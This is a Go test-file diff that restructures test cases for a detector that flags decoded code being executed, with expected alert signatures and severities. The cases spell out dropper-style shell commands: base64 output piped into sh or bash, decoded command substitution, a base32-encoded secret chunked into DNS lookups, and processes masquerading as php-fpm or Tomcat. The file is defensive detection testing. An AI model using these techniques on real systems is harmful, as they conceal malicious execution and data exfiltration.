@@ -76,27 +76,36 @@ func TestKernelDecodedCodeRan(t *testing.T) {
 	}
 	py := "/usr/bin/python3"
 
-	droppers := []struct {
+	// Each runs once as nobody and must raise sig at imp.
+	type decodeCase struct {
 		name  string
 		shell string // runs cmd; sh unless bash is needed
 		cmd   string
 		sig   string
-	}{
+		imp   string
+	}
+	critical := func(name, shell, cmd, sig string) decodeCase { return decodeCase{name, shell, cmd, sig, "critical"} }
+	cases := []decodeCase{
 		// The program is descriptor 3, the decoder's pipe; standard
 		// input is /dev/null.
-		{"program_on_fd3", "sh", "(cat t.b64; sleep 0.6) | base64 -d | sh /dev/fd/3 3<&0 </dev/null", "decoder_piped_to_interpreter"},
+		critical("program_on_fd3", "sh", "(cat t.b64; sleep 0.6) | base64 -d | sh /dev/fd/3 3<&0 </dev/null", "decoder_piped_to_interpreter"),
 		// 40 children first: the relay search is bounded by cost, not by
 		// a count they fill.
-		{"filter_behind_40_sleeps", "sh", "for i in $(seq 40); do sleep 2 & done; (cat t.b64; sleep 0.6) | base64 -d | tr c c | sh -s", "decoder_piped_to_interpreter"},
-		{"python_module_decoder", "sh", "(cat t.b64; sleep 0.3) | " + py + " -m base64 -d | sh", "decoder_piped_to_interpreter"},
-		{"renamed_copy_piped_to_sh", "sh", "(cat t.b64; sleep 0.3) | ./b6 -d | sh", "decoder_piped_to_interpreter"},
-		{"command_substitution", "bash", `bash -c "$( (cat t.b64; sleep 0.3) | base64 -d)"; true`, "decoded_command_executed"},
-		{"command_substitution_quick", "bash", `bash -c "$(base64 -d kit.b64)"; true`, "decoded_command_executed"},
-		{"process_substitution", "bash", "bash <( (cat t.b64; sleep 0.3) | base64 -d); true", "decoded_command_executed"},
-		{"base32_fold_loop_to_dns", "sh", "base32 -w0 secret | fold -w 8 | while read l; do ./dig $l.x.invalid; done", "encoder_then_network"},
-		{"decoder_under_php_fpm", "bash", `exec -a "php-fpm: pool www" sh -c 'base64 -d t.b64 >/dev/null; true'`, "decoder_under_server"},
+		critical("filter_behind_40_sleeps", "sh", "for i in $(seq 40); do sleep 2 & done; (cat t.b64; sleep 0.6) | base64 -d | tr c c | sh -s", "decoder_piped_to_interpreter"),
+		critical("python_module_decoder", "sh", "(cat t.b64; sleep 0.3) | "+py+" -m base64 -d | sh", "decoder_piped_to_interpreter"),
+		critical("renamed_copy_piped_to_sh", "sh", "(cat t.b64; sleep 0.3) | ./b6 -d | sh", "decoder_piped_to_interpreter"),
+		critical("command_substitution", "bash", `bash -c "$( (cat t.b64; sleep 0.3) | base64 -d)"; true`, "decoded_command_executed"),
+		critical("command_substitution_quick", "bash", `bash -c "$(base64 -d kit.b64)"; true`, "decoded_command_executed"),
+		critical("process_substitution", "bash", "bash <( (cat t.b64; sleep 0.3) | base64 -d); true", "decoded_command_executed"),
+		critical("base32_fold_loop_to_dns", "sh", "base32 -w0 secret | fold -w 8 | while read l; do ./dig $l.x.invalid; done", "encoder_then_network"),
+		critical("decoder_under_php_fpm", "bash", `exec -a "php-fpm: pool www" sh -c 'base64 -d t.b64 >/dev/null; true'`, "decoder_under_server"),
+		// Decoders by behaviour and by context: the signature and
+		// importance the issue asks for.
+		{"gpg_enarmor", "sh", "gpg --batch --enarmor < t.b64 > /dev/null 2>&1; true", "data_encoder_exec", "high"},
+		{"python_nested_decode_call", "sh", py + ` -c 'import codecs;print(codecs.decode(open("t.b64").read(),"base64"))' > /dev/null; true`, "interpreter_inline_decode", "high"},
+		critical("decoder_under_tomcat", "bash", `exec -a "java org.apache.catalina.startup.Bootstrap start" sh -c 'base64 -d t.b64 >/dev/null; true'`, "decoder_under_app_server"),
 	}
-	for _, tt := range droppers {
+	for _, tt := range cases {
 		t.Run(tt.name, func(t *testing.T) {
 			marker := fmt.Sprintf("dec-%s-%d", tt.name, time.Now().UnixNano())
 			cmd := asNobody(tt.shell, "-c", tt.cmd, marker)
@@ -111,31 +120,8 @@ func TestKernelDecodedCodeRan(t *testing.T) {
 			}
 			v, why := a.pipe()
 			t.Logf("%s %s: pipe %q: %s", tt.sig, a.Signature.Importance, v, why)
-			if a.Signature.Importance != "critical" {
-				t.Errorf("%s is %s (pipe %q: %s), want critical", tt.sig, a.Signature.Importance, v, why)
-			}
-		})
-	}
-
-	// Decoders by behaviour and by context, one exec each: the signature
-	// and importance the issue asks for.
-	single := []struct{ name, shell, cmd, sig, imp string }{
-		{"gpg_enarmor", "sh", "gpg --batch --enarmor < t.b64 > /dev/null 2>&1; true", "data_encoder_exec", "high"},
-		{"python_nested_decode_call", "sh", py + ` -c 'import codecs;print(codecs.decode(open("t.b64").read(),"base64"))' > /dev/null; true`, "interpreter_inline_decode", "high"},
-		{"decoder_under_tomcat", "bash", `exec -a "java org.apache.catalina.startup.Bootstrap start" sh -c 'base64 -d t.b64 >/dev/null; true'`, "decoder_under_app_server", "critical"},
-	}
-	for _, tt := range single {
-		t.Run(tt.name, func(t *testing.T) {
-			marker := fmt.Sprintf("dec-%s-%d", tt.name, time.Now().UnixNano())
-			cmd := asNobody(tt.shell, "-c", tt.cmd, marker)
-			cmd.Dir = dir
-			if out, err := cmd.CombinedOutput(); err != nil {
-				t.Fatalf("%s: %v\n%s", tt.cmd, err, out)
-			}
-			got := d.sequenceAlerts(t, marker, tt.sig)
-			a, ok := findSig(got, tt.sig)
-			if !ok || a.Signature.Importance != tt.imp {
-				t.Fatalf("%s raised %v, want %s at %s", tt.cmd, got, tt.sig, tt.imp)
+			if a.Signature.Importance != tt.imp {
+				t.Errorf("%s is %s (pipe %q: %s), want %s", tt.sig, a.Signature.Importance, v, why, tt.imp)
 			}
 		})
 	}
